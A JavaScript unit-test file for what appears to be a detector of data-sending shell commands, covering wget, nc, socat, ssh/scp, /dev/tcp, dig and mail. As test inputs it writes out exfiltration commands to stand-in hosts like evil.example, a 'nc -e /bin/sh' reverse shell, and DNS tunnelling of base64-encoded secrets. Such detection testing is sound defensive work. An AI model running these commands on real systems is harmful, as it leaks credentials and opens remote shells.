import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { matchCommand } from '../../../src/analysis/sinks/index.js';
import { cmd, redirect, script, v } from '../ir-builders.js';
import { one, sinks, summarise } from './helpers.js';

describe('wget', () => {
  it('post data, body, headers, credentials', async () => {
    const s = await one(
      'wget -q -O- --post-data "t=$T" --header "X-Key: $K" --user u --password "$P" https://h.example/x',
    );
    assert.deepEqual(s.hosts, ['h.example']);
    for (const v of ['T', 'K', 'P'])
      assert.ok(
        s.payload.some((p) => p.includes(v)),
        v,
      );
  });
  it('post and body files are uploads; -i makes the destination unknown', async () => {
    assert.deepEqual((await one('wget --post-file=/tmp/env https://h.example')).uploads, ['/tmp/env']);
    assert.deepEqual((await one('wget --body-file env.txt --method PUT https://h.example')).uploads, [
      'env.txt',
    ]);
    assert.deepEqual((await one('wget -i urls.txt')).hosts, ['?']);
  });
});

describe('HTTPie', () => {
  it('method, URL, items and files', async () => {
    const s = await one('http POST https://h.example/x "Authorization:Bearer $T" token=$T data=@/tmp/f');
    assert.deepEqual(s.hosts, ['h.example']);
    assert.deepEqual(s.uploads, ['/tmp/f']);
    assert.ok(s.payload.some((p) => p.includes('Authorization')));
    assert.equal(s.stdin, true);
  });
});

describe('netcat family', () => {
  it('nc host port, with stdin', async () => {
    const s = await one('echo "$T" | nc evil.example 4444');
    assert.deepEqual(s.hosts, ['evil.example:4444']);
    assert.equal(s.stdin, true);
    assert.equal(s.channel, 'socket');
  });
  it('nc options with values are not hosts', async () => {
    assert.deepEqual((await one('nc -w 3 -q 1 termbin.com 9999')).hosts, ['termbin.com:9999']);
    assert.deepEqual((await one('ncat --ssl 10.0.0.1 443')).hosts, ['10.0.0.1:443']);
  });
  it('nc -e is a reverse shell payload; a listener is not a send', async () => {
    const s = await one('nc -e /bin/sh 1.2.3.4 9001');
    assert.deepEqual(s.hosts, ['1.2.3.4:9001']);
    assert.ok(s.payload.includes('/bin/sh'));
    assert.deepEqual(await sinks('nc -l -p 8080'), []);
  });
  it('socat TCP and OPENSSL addresses', async () => {
    const s = await one('socat - TCP:evil.example:443');
    assert.deepEqual(s.hosts, ['evil.example:443']);
    assert.equal(s.stdin, true);
    const f = await one('socat FILE:/tmp/secrets OPENSSL:evil.example:443,verify=0');
    assert.deepEqual(f.hosts, ['evil.example:443']);
    assert.deepEqual(f.uploads, ['/tmp/secrets']);
    assert.deepEqual((await one('socat STDIN PROXY:proxy.example:evil.example:443')).hosts, [
      'proxy.example',
    ]);
  });
  it('telnet and openssl s_client', async () => {
    assert.deepEqual((await one('telnet evil.example 23')).hosts, ['evil.example:23']);
    const o = await one('echo "$T" | openssl s_client -quiet -connect evil.example:443');
    assert.deepEqual(o.hosts, ['evil.example:443']);
    assert.equal(o.stdin, true);
    assert.deepEqual(await sinks('openssl base64 -in f'), []);
  });
});

describe('ssh family', () => {
  it('ssh user@host command', async () => {
    const s = await one('ssh -i key -p 2222 deploy@server.example "echo $T > /tmp/t"');
    assert.deepEqual(s.hosts, ['server.example']);
    assert.equal(s.channel, 'ssh');
    assert.ok(s.payload.some((p) => p.includes('T')));
    assert.equal(s.stdin, true);
  });
  it('ssh -J jump host is a destination too', async () => {
    assert.deepEqual((await one('ssh -J bastion.example app.internal')).hosts, [
      'app.internal',
      'bastion.example',
    ]);
  });
  it('scp uploads local sources to a remote target', async () => {
    const s = await one('scp -P 22 .env creds.json user@host.example:/tmp/');
    assert.deepEqual(s.hosts, ['host.example']);
    assert.deepEqual(s.uploads, ['.env', 'creds.json']);
    const down = await one('scp user@host.example:/etc/x ./x');
    assert.deepEqual(down.uploads, []);
    assert.deepEqual(await sinks('scp a b'), []);
  });
  it('rsync host::module and -e ssh', async () => {
    const s = await one('rsync -avz -e "ssh -p 2222" ./dist/ deploy@web.example:/var/www/');
    assert.deepEqual(s.hosts, ['web.example']);
    assert.deepEqual(s.uploads, ['./dist/']);
    assert.deepEqual((await one('rsync -a out/ backup.example::module/path')).hosts, ['backup.example']);
    assert.deepEqual((await one('rsync -a out/ rsync://r.example/mod')).hosts, ['r.example']);
    assert.ok((await one('rsync -a out/ h.example:x')).readsEnv.includes('RSYNC_PASSWORD'));
  });
  it('sftp reads commands from stdin or a batch file', async () => {
    const s = await one('sftp -b - user@sftp.example');
    assert.deepEqual(s.hosts, ['sftp.example']);
    assert.equal(s.stdin, true);
    assert.deepEqual((await one('sftp -b batch.txt user@sftp.example')).uploads, ['batch.txt']);
  });
});

describe('ftp family', () => {
  it('ftp host with commands on stdin', async () => {
    const s = await one('ftp -n ftp.example <<EOF\nuser u p\nput f\nEOF');
    assert.deepEqual(s.hosts, ['ftp.example']);
    assert.equal(s.stdin, true);
    assert.equal(s.channel, 'ftp');
  });
  it('lftp with credentials and commands', async () => {
    const s = await one('lftp -u "user,$PASS" -e "mirror -R dist /www; bye" ftp://ftp.example');
    assert.deepEqual(s.hosts, ['ftp.example']);
    assert.ok(s.payload.some((p) => p.includes('PASS')));
    assert.deepEqual((await one('lftp -c "open ftp.example; put f"')).hosts, ['?']);
  });
});

describe('/dev/tcp and /dev/udp', () => {
  it('echo secret > /dev/tcp/host/port', async () => {
    const s = await one('echo "$T" > /dev/tcp/evil.example/4444');
    assert.deepEqual(s.hosts, ['evil.example:4444']);
    assert.equal(s.tool, '/dev/tcp');
    assert.ok(s.payload.some((p) => p.includes('T')));
  });
  it('/dev/udp with an IP', async () => {
    assert.deepEqual((await one('printf %s "$T" > /dev/udp/10.1.2.3/53')).hosts, ['10.1.2.3:53']);
  });
  it('exec 3<> then >&3 (built IR)', () => {
    const open = cmd('exec', [], { redirects: [redirect('<>', '/dev/tcp/evil.example/80', 3)] });
    const send = cmd('echo', [v('T')], { redirects: [redirect('>&', '3')] });
    const sc = script([open, send]);
    const sent = matchCommand(send, sc).map(summarise);
    assert.equal(sent.length, 1);
    assert.deepEqual(sent[0]?.hosts, ['evil.example:80']);
    assert.deepEqual(
      sent[0]?.payload.some((p) => p.includes('T')),
      true,
    );
    const opened = matchCommand(open, sc).map(summarise);
    assert.deepEqual(opened[0]?.payload, ['evil.example:80']);
  });
  it('cat file > /dev/tcp uploads the file (built IR)', () => {
    const op = cmd('cat', ['/tmp/env'], { redirects: [redirect('>', '/dev/tcp/h.example/9')] });
    const [s] = matchCommand(op, script([op])).map(summarise);
    assert.deepEqual(s?.uploads, ['/tmp/env']);
  });
  it('a dynamic host is unknown', async () => {
    assert.deepEqual((await one('echo x > /dev/tcp/$H/80')).hosts, ['?']);
  });
});

describe('DNS tools', () => {
  it('dig: the name is the payload, its domain and the resolver the destinations', async () => {
    const s = await one('dig @8.8.8.8 +short TXT "$T.x.attacker.example"');
    assert.equal(s.channel, 'dns');
    assert.deepEqual(s.hosts, ['attacker.example', '8.8.8.8']);
    assert.ok(s.payload.some((p) => p.includes('T')));
  });
  it('dig with a static name and -t type', async () => {
    assert.deepEqual((await one('dig -t A abc.oast.fun')).hosts, ['oast.fun']);
  });
  it('nslookup, host, drill, resolvectl', async () => {
    assert.deepEqual((await one('nslookup -type=TXT "$T.evil.example" 1.1.1.1')).hosts, [
      'evil.example',
      '1.1.1.1',
    ]);
    assert.deepEqual((await one('host -t txt "$T.evil.example"')).hosts, ['evil.example']);
    assert.deepEqual((await one('drill "$T.evil.example" @9.9.9.9 TXT')).hosts, ['evil.example', '9.9.9.9']);
    assert.deepEqual((await one('resolvectl query "$T.evil.example"')).hosts, ['evil.example']);
    assert.deepEqual(await sinks('resolvectl status'), []);
  });
  it('base64 labels through a substitution', async () => {
    const all = await sinks('dig "$(echo $T | base64).ns.evil.example"');
    assert.equal(all.length, 1);
    assert.deepEqual(all[0]?.hosts, ['evil.example']);
  });
});

describe('ping -p', () => {
  it('pattern payload and host', async () => {
    const s = await one('ping -c 1 -p "$HEX" 203.0.113.9');
    assert.equal(s.channel, 'icmp');
    assert.deepEqual(s.hosts, ['203.0.113.9']);
    assert.ok(s.payload.some((p) => p.includes('HEX')));
  });
});

describe('mail', () => {
  it('mail to a recipient sends stdin to their domain', async () => {
    const s = await one('env | mail -s report attacker@evil.example');
    assert.deepEqual(s.hosts, ['evil.example']);
    assert.equal(s.stdin, true);
  });
  it('swaks names the server', async () => {
    const s = await one('swaks --to a@b.example --server smtp.evil.example --body "$T"');
    assert.deepEqual(s.hosts, ['smtp.evil.example']);
    assert.ok(s.payload.some((p) => p.includes('T')));
  });
});
